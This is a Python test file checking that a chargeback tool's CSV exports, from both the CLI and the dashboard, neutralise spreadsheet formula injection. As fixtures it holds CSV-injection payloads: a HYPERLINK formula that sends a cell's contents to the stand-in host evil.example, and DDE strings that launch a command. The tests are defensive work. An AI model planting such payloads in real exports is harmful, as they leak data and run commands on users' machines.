"""Every CSV the project writes is inert in a spreadsheet: a text cell that starts like a formula
(``= + - @``, tab, CR) comes out prefixed with ``'``; numbers stay numbers, negative ones included.
Checked by parsing the produced file cell by cell: the CLI export, the dashboard download and the
function both use."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from pathlib import Path

import httpx
import typer
from sqlalchemy import Engine
from typer.testing import CliRunner

from core.cost_centres import parse_cost_centres
from dashboard.chargeback import CSV_COLUMNS, ChargebackRow, chargeback_csv
from dashboard.chargeback_period import month_period
from dashboard.csv_safe import csv_text, inert_text
from store.rows import Pricing, turn_row
from store.testing import sample_turn
from store.writer import write_turns
from switchyard.chargeback_cli import export_app
from tests.dashboard.client import sign_in
from tests.dashboard.conftest import PASSWORDS

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"x")'
EVIL = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
        "=1,2\n3", "plain-repo"]
MONTH = "2026-03"
CLI = typer.Typer()
CLI.add_typer(export_app, name="export")


def _formula_like(cell: str) -> bool:
    return cell[:1] in {"=", "+", "-", "@", "\t", "\r"}


def _seed_evil_repos(engine: Engine) -> None:
    start = datetime(2026, 3, 2)
    now = datetime.now(UTC).replace(tzinfo=None)
    rows = []
    for index, repo in enumerate(EVIL):
        ns = int((start + timedelta(hours=index)).replace(tzinfo=UTC).timestamp()) * 10**9
        rows.append(turn_row(sample_turn(index, start_ns=ns, end_ns=ns + 1, developer="dev", team="team", repo=repo),
                             Pricing(Decimal("0.25"), priced=True), now))
    write_turns(engine, rows)


def _check_cells(text: str) -> list[dict[str, str]]:
    parsed = list(csv.reader(io.StringIO(text, newline="")))
    assert tuple(parsed[0]) == CSV_COLUMNS
    for line in parsed:
        for cell in line:
            assert not _formula_like(cell), (cell, line)
    rows = [dict(zip(CSV_COLUMNS, line, strict=True)) for line in parsed[1:]]
    assert sorted(row["repo"] for row in rows) == sorted(inert_text(repo) for repo in EVIL)
    assert {row["repo"] for row in rows} >= {"'" + HYPERLINK, "plain-repo"}
    assert all(Decimal(row["cost_usd"]) == Decimal("0.25") and row["requests"] == "1" for row in rows)
    return rows


def test_the_shared_writer_prefixes_text_cells_only() -> None:
    for text in ["=1", "+1", "-1", "@x", "\tx", "\rx"]:
        assert inert_text(text) == "'" + text
    for text in ["", "a=1", "'=1", " =1", "1-2", "repo"]:
        assert inert_text(text) == text
    out = csv_text(["=h", "n"], [["-5", -5], ["x", Decimal("-1.500000000")], ["@y", 0]])
    assert list(csv.reader(io.StringIO(out))) == [["'=h", "n"], ["'-5", "-5"], ["x", "-1.500000000"], ["'@y", "0"]]


def test_a_negative_cost_stays_a_number_in_the_chargeback_csv() -> None:
    row = ChargebackRow(month_period("2026-03"), "repo", (("repo", "-refund"),), 1, 0, 0, 0, 0, 0,
                        Decimal("-1.250000000"))
    [line] = list(csv.DictReader(io.StringIO(chargeback_csv([row]))))
    assert line["cost_usd"] == "-1.250000000" and Decimal(line["cost_usd"]) == Decimal("-1.25")
    assert line["repo"] == "'-refund"


def test_a_cost_centre_from_the_file_is_inert_too() -> None:
    centres = parse_cost_centres("teams:\n  payments: '=HYPERLINK(\"http://evil.example\")'\n")
    row = ChargebackRow(month_period("2026-03"), "team", (("team", "payments"),
                                                          ("cost_centre", centres.of("payments"))),
                        1, 0, 0, 0, 0, 0, Decimal("1"))
    [line] = list(csv.DictReader(io.StringIO(chargeback_csv([row]))))
    assert line["cost_centre"] == "'=HYPERLINK(\"http://evil.example\")"


def test_the_cli_export_is_inert_cell_by_cell(db_url: str, db_engine: Engine, tmp_path: Path) -> None:
    _seed_evil_repos(db_engine)
    out = tmp_path / "chargeback.csv"
    result = CliRunner().invoke(CLI, ["export", "chargeback", "--month", MONTH, "--by", "repo",
                                      "--database-url", db_url, "--out", str(out)])
    assert result.exit_code == 0, result.output
    _check_cells(out.read_bytes().decode("utf-8"))
    printed = CliRunner().invoke(CLI, ["export", "chargeback", "--month", MONTH, "--by", "repo",
                                       "--database-url", db_url])
    assert printed.exit_code == 0 and printed.stdout == out.read_bytes().decode("utf-8")


def test_the_dashboard_download_is_inert_cell_by_cell(served: str, db_engine: Engine) -> None:
    _seed_evil_repos(db_engine)
    with httpx.Client(base_url=served) as client:
        sign_in(client, "victor", PASSWORDS["victor"])
        response = client.get(f"/export/chargeback.csv?month={MONTH}&by=repo")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    _check_cells(response.text)
